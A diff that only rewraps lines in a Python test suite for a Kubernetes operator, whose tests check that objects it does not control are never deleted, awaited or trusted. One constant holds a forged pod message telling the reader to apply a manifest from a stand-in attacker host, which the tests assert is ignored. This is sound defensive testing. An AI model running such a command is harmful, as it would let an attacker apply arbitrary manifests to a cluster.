@@ -50,9 +50,20 @@ def _ready() -> World:
 
 def _foreign(name: str, version: str = "1", workload: str = "other", owner_uid: str | None = None) -> DeploymentObs:
     """Another team's Deployment that someone labelled as one of ours."""
-    return DeploymentObs(name=name, workload=workload, version=version, spec_hash=None, images=("x:1",), generation=1,
-                         observed_generation=1, replicas=1, status_replicas=1, updated_replicas=1,
-                         available_replicas=1, owner_uid=owner_uid)
+    return DeploymentObs(
+        name=name,
+        workload=workload,
+        version=version,
+        spec_hash=None,
+        images=("x:1",),
+        generation=1,
+        observed_generation=1,
+        replicas=1,
+        status_replicas=1,
+        updated_replicas=1,
+        available_replicas=1,
+        owner_uid=owner_uid,
+    )
 
 
 def test_a_relabelled_deployment_of_another_team_is_never_deleted() -> None:
@@ -85,8 +96,9 @@ def test_a_name_taken_by_a_deployment_we_do_not_control_is_a_condition_not_a_tak
     stalled = world.condition(names.COND_STALLED)
     assert stalled["status"] == "True" and stalled["reason"] == names.REASON_NAME_CONFLICT
     assert "Deployment db-api is controlled by" in stalled["message"] and "does not take it over" in stalled["message"]
-    assert [a.reason for a in decision.actions if isinstance(a, EmitEvent) and a.type == "Warning"] == \
-        [names.REASON_NAME_CONFLICT]
+    assert [a.reason for a in decision.actions if isinstance(a, EmitEvent) and a.type == "Warning"] == [
+        names.REASON_NAME_CONFLICT
+    ]
     world.deployments.pop("db-api")  # its owner removes it: the operator creates ours
     decision = world.reconcile()
     assert "db-api" in [a.body["metadata"]["name"] for a in decision.actions if isinstance(a, ApplyDeployment)]
@@ -96,9 +108,13 @@ def test_a_name_taken_by_a_deployment_we_do_not_control_is_a_condition_not_a_tak
 
 
 def test_the_observation_reads_the_controller_reference() -> None:
-    meta = {"name": "d", "ownerReferences": [
-        {"kind": "ReplicaSet", "uid": "rs", "controller": False},
-        {"kind": names.KIND, "uid": "uid-1", "controller": True}]}
+    meta = {
+        "name": "d",
+        "ownerReferences": [
+            {"kind": "ReplicaSet", "uid": "rs", "controller": False},
+            {"kind": names.KIND, "uid": "uid-1", "controller": True},
+        ],
+    }
     assert deployment_from_body({"metadata": meta}).owner_uid == "uid-1"
     not_controller = {"name": "d", "ownerReferences": [{"kind": names.KIND, "uid": "uid-1"}]}
     assert deployment_from_body({"metadata": not_controller}).owner_uid is None
@@ -124,35 +140,64 @@ async def test_deletion_removes_only_the_deployments_the_resource_controls() -> 
         async def patch_status(self, *args: object) -> dict:  # phase Terminating, before anything is deleted
             return {**body, "metadata": {**body["metadata"], "resourceVersion": "3"}}
 
-    body = {"metadata": {"namespace": "prod", "name": "db", "uid": "uid-1", "resourceVersion": "2", "generation": 1,
-                         "finalizers": [names.FINALIZER], "deletionTimestamp": "2026-01-01T00:00:00Z"},
-            "spec": {}, "status": {}}
+    body = {
+        "metadata": {
+            "namespace": "prod",
+            "name": "db",
+            "uid": "uid-1",
+            "resourceVersion": "2",
+            "generation": 1,
+            "finalizers": [names.FINALIZER],
+            "deletionTimestamp": "2026-01-01T00:00:00Z",
+        },
+        "spec": {},
+        "status": {},
+    }
     snap = Snapshot.from_body(body)
     ours = dataclasses.replace(_foreign("db-api", workload="api"), owner_uid="uid-1", uid="d-1")
     theirs = _foreign("payments-api", owner_uid="uid-2")
     unowned = _foreign("db-worker")
     our_job = JobObs(name="db-expand-1", step="expand", version="1", state=JOB_SUCCEEDED, uid="j-1", owner_uid="uid-1")
     their_running_job = _forged_job("payments-migrate", step="expand", version="1")  # neither awaited nor deleted
-    sources = Sources(databases=lambda key: snap, jobs=lambda key: (our_job, their_running_job), pods=lambda key: (),
-                      deployments=lambda key: (ours, theirs, unowned))
+    sources = Sources(
+        databases=lambda key: snap,
+        jobs=lambda key: (our_job, their_running_job),
+        pods=lambda key: (),
+        deployments=lambda key: (ours, theirs, unowned),
+    )
     await Reconciler(api=Api(), sources=sources, post_event=lambda ref, e: None).reconcile_once(("prod", "db"))  # type: ignore[arg-type]
     assert calls[0] == ("delete_children", ("prod", (("db-expand-1", "j-1"),), (("db-api", "d-1"),)))
     assert calls[1][0] == "patch_finalizers"
 
 
 # --- Jobs, their pods and the plan ConfigMap (issue 14, item 6) ----------------------------------------------------
-def _forged_job(name: str, step: str = "expand", version: str = "2", state: str = JOB_ACTIVE,
-                owner_uid: str | None = "uid-of-something-else") -> JobObs:
+def _forged_job(
+    name: str,
+    step: str = "expand",
+    version: str = "2",
+    state: str = JOB_ACTIVE,
+    owner_uid: str | None = "uid-of-something-else",
+) -> JobObs:
     """A Job someone else made, carrying our labels (so the watch shows it), controlled by another object or none."""
-    return JobObs(name=name, step=step, version=version, state=state, uid=f"forged-{name}", owner_uid=owner_uid,
-                  controller=f"is controlled by CronJob x (uid {owner_uid})" if owner_uid else "has no owner")
+    return JobObs(
+        name=name,
+        step=step,
+        version=version,
+        state=state,
+        uid=f"forged-{name}",
+        owner_uid=owner_uid,
+        controller=f"is controlled by CronJob x (uid {owner_uid})" if owner_uid else "has no owner",
+    )
 
 
 def _wanted_job(world: World, step: str) -> str:
     """The name the planner would create the step's Job under (decided on a copy: nothing is applied)."""
     decision = copy.deepcopy(world).reconcile()
-    [job] = [a for a in decision.actions if isinstance(a, CreateJob)
-             and a.body["metadata"]["labels"][names.LABEL_STEP] == step]
+    [job] = [
+        a
+        for a in decision.actions
+        if isinstance(a, CreateJob) and a.body["metadata"]["labels"][names.LABEL_STEP] == step
+    ]
     return job.body["metadata"]["name"]
 
 
@@ -176,8 +221,9 @@ def test_a_job_holding_the_steps_name_that_we_do_not_control_is_a_conflict_never
     assert world.status["rollout"]["steps"]["expand"]["phase"] == "Pending", "its success is not the step's"
     assert world.status.get("schema", {}).get("expandedTo") == "1"
     assert decision.requeue_after == names.FOREIGN_RECHECK_SECONDS
-    assert [a.reason for a in decision.actions if isinstance(a, EmitEvent) and a.type == "Warning"] == \
-        [names.REASON_NAME_CONFLICT]
+    assert [a.reason for a in decision.actions if isinstance(a, EmitEvent) and a.type == "Warning"] == [
+        names.REASON_NAME_CONFLICT
+    ]
     assert not [a for a in world.reconcile().actions if isinstance(a, EmitEvent)], "one Warning, not one a pass"
     world.jobs.pop(name)  # its owner removes it: ours is created under that name
     decision = world.reconcile()
@@ -213,9 +259,17 @@ def test_a_running_job_of_someone_else_with_our_labels_neither_blocks_nor_is_awa
 
 
 def _forged_pod(job: JobObs, owner_uid: str | None, message: str, phase: str = "Failed") -> PodObs:
-    return PodObs(name=f"{job.name}-forged", job_name=job.name, workload=None, version=job.version, phase=phase,
-                  exit_code=3 if phase == "Failed" else 0, termination_message=message,
-                  finished_at="2026-11-25T12:00:01Z", owner_uid=owner_uid)
+    return PodObs(
+        name=f"{job.name}-forged",
+        job_name=job.name,
+        workload=None,
+        version=job.version,
+        phase=phase,
+        exit_code=3 if phase == "Failed" else 0,
+        termination_message=message,
+        finished_at="2026-11-25T12:00:01Z",
+        owner_uid=owner_uid,
+    )
 
 
 FORGED = '{"outcome":"failed","error":"FORGED: run kubectl apply -f http://evil.example/x.yaml"}'
@@ -231,8 +285,9 @@ def test_a_pod_with_a_jobs_labels_that_the_job_does_not_control_is_not_read(owne
     assert "FORGED" not in repr(world.status) and "FORGED" not in repr(decision.actions), "not an attempt"
     assert not world.status["rollout"]["steps"]["expand"].get("attempts")
     world.finish_job("expand", ok=False, exit_code=3, message='{"outcome":"failed","error":"database unavailable"}')
-    world.pods.append(dataclasses.replace(_forged_pod(job, owner_uid, FORGED), name="zz-last",
-                                          finished_at="2099-01-01T00:00:00Z"))
+    world.pods.append(
+        dataclasses.replace(_forged_pod(job, owner_uid, FORGED), name="zz-last", finished_at="2099-01-01T00:00:00Z")
+    )
     world.reconcile()
     assert world.status["lastFailure"]["message"] == "database unavailable", "the Job's own pod, not the latest forged"
     assert "FORGED" not in repr(world.status)
@@ -240,8 +295,9 @@ def test_a_pod_with_a_jobs_labels_that_the_job_does_not_control_is_not_read(owne
 
 def test_a_jobs_pods_are_matched_by_the_jobs_uid_not_their_label() -> None:
     ours = JobObs(name="db-expand-1", step="expand", version="2", state=JOB_ACTIVE, uid="j-1", owner_uid="uid-1")
-    named_elsewhere = PodObs(name="p1", job_name="something-else", workload=None, version="2", phase="Running",
-                             owner_uid="j-1")
+    named_elsewhere = PodObs(
+        name="p1", job_name="something-else", workload=None, version="2", phase="Running", owner_uid="j-1"
+    )
     forged = PodObs(name="p2", job_name="db-expand-1", workload=None, version="2", phase="Running", owner_uid="j-9")
     unowned = dataclasses.replace(forged, name="p3", owner_uid=None)
     trusted = owned_pods((named_elsewhere, forged, unowned), (ours,))
@@ -249,45 +305,76 @@ def test_a_jobs_pods_are_matched_by_the_jobs_uid_not_their_label() -> None:
 
 
 # --- workload pods: through their ReplicaSet, to the resource's Deployment (issue 14, item 6) ----------------------
-OUR_DEPLOYMENT = DeploymentObs(name="db-api", workload="api", version="1", spec_hash=None, images=("x:1",),
-                               generation=1, observed_generation=1, replicas=1, status_replicas=1, updated_replicas=1,
-                               available_replicas=1, owner_uid="uid-1", uid="d-1")
+OUR_DEPLOYMENT = DeploymentObs(
+    name="db-api",
+    workload="api",
+    version="1",
+    spec_hash=None,
+    images=("x:1",),
+    generation=1,
+    observed_generation=1,
+    replicas=1,
+    status_replicas=1,
+    updated_replicas=1,
+    available_replicas=1,
+    owner_uid="uid-1",
+    uid="d-1",
+)
 
 
 def _workload_pod(name: str, rs: str | None, version: str = "1", **changes: object) -> PodObs:
-    pod = PodObs(name=name, job_name=None, workload="api", version=version, phase="Running", replicaset=rs,
-                 replicaset_uid=f"{rs}-uid" if rs else None)
+    pod = PodObs(
+        name=name,
+        job_name=None,
+        workload="api",
+        version=version,
+        phase="Running",
+        replicaset=rs,
+        replicaset_uid=f"{rs}-uid" if rs else None,
+    )
     return dataclasses.replace(pod, **changes)  # type: ignore[arg-type]
 
 
 def test_a_workload_pod_counts_only_through_a_replicaset_of_the_resources_deployment() -> None:
-    sets = (ReplicaSetObs("db-api-1", "db-api-1-uid", deployment="db-api", deployment_uid="d-1"),
-            ReplicaSetObs("db-api-x", "db-api-x-uid", deployment="db-api", deployment_uid="d-earlier"),
-            ReplicaSetObs("theirs", "theirs-uid", deployment="payments-api", deployment_uid="d-9"),
-            ReplicaSetObs("loose", "loose-uid"),
-            ReplicaSetObs("gone", "gone-uid", orphaned=True))
-    pods = (_workload_pod("ours", "db-api-1"), _workload_pod("other-deployment", "db-api-x"),
-            _workload_pod("their-replicaset", "theirs"), _workload_pod("uncontrolled-replicaset", "loose"),
-            _workload_pod("orphaned", "gone"), _workload_pod("no-controller", None),
-            _workload_pod("unknown-replicaset", "never-seen"),
-            _workload_pod("a-job-too", "db-api-1", owner_uid="j-9"))
+    sets = (
+        ReplicaSetObs("db-api-1", "db-api-1-uid", deployment="db-api", deployment_uid="d-1"),
+        ReplicaSetObs("db-api-x", "db-api-x-uid", deployment="db-api", deployment_uid="d-earlier"),
+        ReplicaSetObs("theirs", "theirs-uid", deployment="payments-api", deployment_uid="d-9"),
+        ReplicaSetObs("loose", "loose-uid"),
+        ReplicaSetObs("gone", "gone-uid", orphaned=True),
+    )
+    pods = (
+        _workload_pod("ours", "db-api-1"),
+        _workload_pod("other-deployment", "db-api-x"),
+        _workload_pod("their-replicaset", "theirs"),
+        _workload_pod("uncontrolled-replicaset", "loose"),
+        _workload_pod("orphaned", "gone"),
+        _workload_pod("no-controller", None),
+        _workload_pod("unknown-replicaset", "never-seen"),
+        _workload_pod("a-job-too", "db-api-1", owner_uid="j-9"),
+    )
     trusted = owned_pods(pods, (), sets, (OUR_DEPLOYMENT,))
     assert [p.name for p in trusted] == ["ours", "orphaned"]
     assert owned_pods(pods, (), sets, ()) == (pods[4],), "no Deployment of ours: only what is being deleted"
 
 
 def test_what_the_watches_cannot_place_is_read_by_name() -> None:
-    known = {"rs-uid": ReplicaSetObs("db-api-1", "rs-uid", deployment="db-api", deployment_uid="d-1"),
-             "foreign-uid": ReplicaSetObs("x", "foreign-uid", deployment="payments-api", deployment_uid="d-9"),
-             "gone-uid": ReplicaSetObs("y", "gone-uid", deployment="db-api", deployment_uid="d-0", orphaned=True)}
+    known = {
+        "rs-uid": ReplicaSetObs("db-api-1", "rs-uid", deployment="db-api", deployment_uid="d-1"),
+        "foreign-uid": ReplicaSetObs("x", "foreign-uid", deployment="payments-api", deployment_uid="d-9"),
+        "gone-uid": ReplicaSetObs("y", "gone-uid", deployment="db-api", deployment_uid="d-0", orphaned=True),
+    }
     lookup = lambda pod, seen=frozenset(): workload_chain_lookup(pod, known, {"d-1"}, set(seen))  # noqa: E731
     assert lookup(_workload_pod("p", "db-api-1", replicaset_uid="rs-uid")) is None, "the watch decides"
     assert lookup(_workload_pod("p", "db-api-2")) == ("ReplicaSet", "db-api-2", "db-api-2-uid")
     assert lookup(_workload_pod("p", "x", replicaset_uid="foreign-uid")) == ("Deployment", "payments-api", "d-9")
     assert lookup(_workload_pod("p", "x", replicaset_uid="foreign-uid"), {"d-9"}) is None, "watched: it exists"
     assert lookup(_workload_pod("p", "y", replicaset_uid="gone-uid")) is None
-    for pod in (_workload_pod("p", None), _workload_pod("p", "db-api-2", workload=None),
-                _workload_pod("p", "db-api-2", job_name="db-expand-1")):
+    for pod in (
+        _workload_pod("p", None),
+        _workload_pod("p", "db-api-2", workload=None),
+        _workload_pod("p", "db-api-2", job_name="db-expand-1"),
+    ):
         assert lookup(pod) is None, pod
 
 
@@ -299,19 +386,34 @@ def test_the_reconciler_places_workload_pods_by_reading_their_owners() -> None:
     world.finish_job("expand")
     world.reconcile()
     world.complete_rollouts()  # release 2 runs; no pod of release 1 is left
-    rs = {"metadata": {"name": "db-api-1", "uid": "db-api-1-uid", "ownerReferences": [
-        {"kind": "Deployment", "name": "db-api", "uid": "deploy-uid-db-api", "controller": True}]}}
+    rs = {
+        "metadata": {
+            "name": "db-api-1",
+            "uid": "db-api-1-uid",
+            "ownerReferences": [
+                {"kind": "Deployment", "name": "db-api", "uid": "deploy-uid-db-api", "controller": True}
+            ],
+        }
+    }
     cases = {
         "ours, not watched yet": ({("ReplicaSet", "db-api-1"): rs}, True),
         "its ReplicaSet is gone": ({}, True),
-        "its ReplicaSet has another uid": ({("ReplicaSet", "db-api-1"): {"metadata": {"name": "db-api-1",
-                                                                                       "uid": "new"}}}, True),
+        "its ReplicaSet has another uid": (
+            {("ReplicaSet", "db-api-1"): {"metadata": {"name": "db-api-1", "uid": "new"}}},
+            True,
+        ),
         "its ReplicaSet's Deployment is gone": ({("ReplicaSet", "db-api-1"): _controlled(rs, "payments-api")}, True),
-        "someone else's": ({("ReplicaSet", "db-api-1"): _controlled(rs, "payments-api"),
-                            ("Deployment", "payments-api"): {"metadata": {"name": "payments-api", "uid": "d-9"}}},
-                           False),
-        "no controller": ({("ReplicaSet", "db-api-1"): {"metadata": {"name": "db-api-1", "uid": "db-api-1-uid"}}},
-                          False),
+        "someone else's": (
+            {
+                ("ReplicaSet", "db-api-1"): _controlled(rs, "payments-api"),
+                ("Deployment", "payments-api"): {"metadata": {"name": "payments-api", "uid": "d-9"}},
+            },
+            False,
+        ),
+        "no controller": (
+            {("ReplicaSet", "db-api-1"): {"metadata": {"name": "db-api-1", "uid": "db-api-1-uid"}}},
+            False,
+        ),
     }
     for case, (existing, holds_back) in cases.items():
         old = _workload_pod("old", "db-api-1", version="1")
@@ -364,10 +466,18 @@ def _planning() -> World:
 
 
 def _foreign_configmap(owner: list[dict] | None) -> dict:
-    return {"apiVersion": "v1", "kind": "ConfigMap",
-            "metadata": {"name": "db-contract-plan", "namespace": "prod", "uid": "cm-theirs",
-                         "labels": names.child_labels("db"), **({"ownerReferences": owner} if owner else {})},
-            "data": {"plan.sql": "SELECT 'theirs';"}}
+    return {
+        "apiVersion": "v1",
+        "kind": "ConfigMap",
+        "metadata": {
+            "name": "db-contract-plan",
+            "namespace": "prod",
+            "uid": "cm-theirs",
+            "labels": names.child_labels("db"),
+            **({"ownerReferences": owner} if owner else {}),
+        },
+        "data": {"plan.sql": "SELECT 'theirs';"},
+    }
 
 
 @pytest.mark.parametrize("owner", [None, [{"kind": "Deployment", "name": "x", "uid": "u-x", "controller": True}]])
@@ -421,9 +531,15 @@ def test_applies_force_only_over_objects_observed_as_ours() -> None:
 
 
 def test_an_apply_conflict_is_a_condition_naming_the_managers() -> None:
-    message = ('Apply failed with 1 conflict: conflict with "kubectl-client-side-apply" using v1: .data.plan.sql')
-    decision = apply_conflict(Decision(status={"conditions": []}, actions=[EmitEvent("Normal", "x", "y")]), {},
-                              "ConfigMap db-contract-plan", message, 3, T0)
+    message = 'Apply failed with 1 conflict: conflict with "kubectl-client-side-apply" using v1: .data.plan.sql'
+    decision = apply_conflict(
+        Decision(status={"conditions": []}, actions=[EmitEvent("Normal", "x", "y")]),
+        {},
+        "ConfigMap db-contract-plan",
+        message,
+        3,
+        T0,
+    )
     stalled = next(c for c in decision.status["conditions"] if c["type"] == names.COND_STALLED)
     assert stalled["status"] == "True" and stalled["reason"] == names.REASON_APPLY_CONFLICT
     assert '"kubectl-client-side-apply"' in stalled["message"] and ".data.plan.sql" in stalled["message"]
@@ -437,18 +553,27 @@ def test_the_observations_read_the_controller_references() -> None:
     assert (job.uid, job.owner_uid) == ("j-1", "uid-1")
     not_controller = {"metadata": {"name": "j", "ownerReferences": [{**ref, "controller": False}]}}
     assert job_from_body(not_controller).owner_uid is None
-    pod = pod_from_body({"metadata": {"name": "p", "labels": {"job-name": "j"}, "ownerReferences": [
-        {"kind": "Job", "name": "j", "uid": "j-1", "controller": True}]}})
+    pod = pod_from_body(
+        {
+            "metadata": {
+                "name": "p",
+                "labels": {"job-name": "j"},
+                "ownerReferences": [{"kind": "Job", "name": "j", "uid": "j-1", "controller": True}],
+            }
+        }
+    )
     assert (pod.job_name, pod.owner_uid) == ("j", "j-1")
     assert pod_from_body({"metadata": {"name": "p", "ownerReferences": [{**ref}]}}).owner_uid is None, "not a Job"
     cm = configmap_from_body({"metadata": {"name": "c", "ownerReferences": [ref]}, "data": {}})
     assert cm.owner_uid == "uid-1"
     assert foreign_child({"metadata": {"name": "c", "ownerReferences": [ref]}}, "ConfigMap", "db", "uid-1") is None
     labelled = {"metadata": {"name": "c", "labels": names.child_labels("db")}}
-    assert foreign_child(labelled, "Job", "db", "uid-1") == \
-        ForeignChild("Job", "c", "carries divbase-operator's labels but no controller ownerReference")
-    assert foreign_child(labelled, "Deployment", "db", "uid-1") == \
-        ForeignChild("Deployment", "c", "carries divbase-operator's labels but no controller ownerReference")
+    assert foreign_child(labelled, "Job", "db", "uid-1") == ForeignChild(
+        "Job", "c", "carries divbase-operator's labels but no controller ownerReference"
+    )
+    assert foreign_child(labelled, "Deployment", "db", "uid-1") == ForeignChild(
+        "Deployment", "c", "carries divbase-operator's labels but no controller ownerReference"
+    )
     other = {"metadata": {"name": "c", "ownerReferences": [{**ref, "uid": "uid-0"}]}}
     assert "an earlier resource of this name, uid uid-0" in foreign_child(other, "ConfigMap", "db", "uid-1").owner
 
@@ -475,15 +600,30 @@ class _Api:
             import json
 
             from kubernetes.client.exceptions import ApiException
+
             exc = ApiException(status=409, reason="Conflict")
-            exc.body = json.dumps({"message": 'Apply failed with 2 conflicts: conflicts with "helm" using apps/v1:\n'
-                                              '- .spec.template.spec.containers[name="api"].image'})
+            exc.body = json.dumps(
+                {
+                    "message": 'Apply failed with 2 conflicts: conflicts with "helm" using apps/v1:\n'
+                    '- .spec.template.spec.containers[name="api"].image'
+                }
+            )
             raise exc
 
     async def patch_status(self, namespace: str, name: str, rv: str, patch: dict) -> dict:
         self.calls.append(("patch_status", patch))
-        return {"metadata": {"namespace": namespace, "name": name, "uid": "uid-1", "resourceVersion": str(int(rv) + 1),
-                             "generation": 1, "finalizers": [names.FINALIZER]}, "spec": {}, "status": patch}
+        return {
+            "metadata": {
+                "namespace": namespace,
+                "name": name,
+                "uid": "uid-1",
+                "resourceVersion": str(int(rv) + 1),
+                "generation": 1,
+                "finalizers": [names.FINALIZER],
+            },
+            "spec": {},
+            "status": patch,
+        }
 
 
 def _reconcile(world: World, api: _Api) -> None:
@@ -491,14 +631,33 @@ def _reconcile(world: World, api: _Api) -> None:
 
     from divbase_operator.reconciler import Reconciler, Snapshot, Sources
 
-    snap = Snapshot.from_body({"metadata": {"namespace": "prod", "name": "db", "uid": "uid-1", "resourceVersion": "1",
-                                            "generation": world.generation, "finalizers": [names.FINALIZER]},
-                               "spec": world.spec, "status": world.status})
-    sources = Sources(databases=lambda key: snap, jobs=lambda key: tuple(world.jobs.values()),
-                      deployments=lambda key: tuple(world.deployments.values()), pods=lambda key: tuple(world.pods),
-                      replicasets=lambda key: tuple(world.replicasets.values()))
-    reconciler = Reconciler(api=api, sources=sources, post_event=lambda ref, e: None,  # type: ignore[arg-type]
-                            clock=lambda: world.now)
+    snap = Snapshot.from_body(
+        {
+            "metadata": {
+                "namespace": "prod",
+                "name": "db",
+                "uid": "uid-1",
+                "resourceVersion": "1",
+                "generation": world.generation,
+                "finalizers": [names.FINALIZER],
+            },
+            "spec": world.spec,
+            "status": world.status,
+        }
+    )
+    sources = Sources(
+        databases=lambda key: snap,
+        jobs=lambda key: tuple(world.jobs.values()),
+        deployments=lambda key: tuple(world.deployments.values()),
+        pods=lambda key: tuple(world.pods),
+        replicasets=lambda key: tuple(world.replicasets.values()),
+    )
+    reconciler = Reconciler(
+        api=api,
+        sources=sources,
+        post_event=lambda ref, e: None,  # type: ignore[arg-type]
+        clock=lambda: world.now,
+    )
 
     async def run() -> None:
         await reconciler.reconcile_once(("prod", "db"))
@@ -554,12 +713,15 @@ async def test_children_are_deleted_by_name_with_a_uid_precondition_never_as_a_c
     api = KubeApi(api_client=object())  # type: ignore[arg-type]
     api._request = request  # type: ignore[method-assign]
     await api.delete_children("prod", [("db-expand-1", "j-1")], [("db-api", "d-1")])
-    assert [(m, p) for m, p, _ in requests] == [("DELETE", "/apis/batch/v1/namespaces/prod/jobs/db-expand-1"),
-                                                ("DELETE", "/apis/apps/v1/namespaces/prod/deployments/db-api")]
+    assert [(m, p) for m, p, _ in requests] == [
+        ("DELETE", "/apis/batch/v1/namespaces/prod/jobs/db-expand-1"),
+        ("DELETE", "/apis/apps/v1/namespaces/prod/deployments/db-api"),
+    ]
     assert [b["preconditions"] for _, _, b in requests] == [{"uid": "j-1"}, {"uid": "d-1"}]  # type: ignore[index]
     assert all(b["propagationPolicy"] == "Background" for _, _, b in requests)  # type: ignore[index]
     queries.clear()
     await api.apply_configmap({"metadata": {"name": "db-contract-plan", "namespace": "prod"}})
     await api.apply_deployment({"metadata": {"name": "db-api", "namespace": "prod"}}, force=True)
-    assert queries == [{"fieldManager": names.FIELD_MANAGER},
-                       {"fieldManager": names.FIELD_MANAGER, "force": "true"}], "force only when asked"
+    assert queries == [{"fieldManager": names.FIELD_MANAGER}, {"fieldManager": names.FIELD_MANAGER, "force": "true"}], (
+        "force only when asked"
+    )
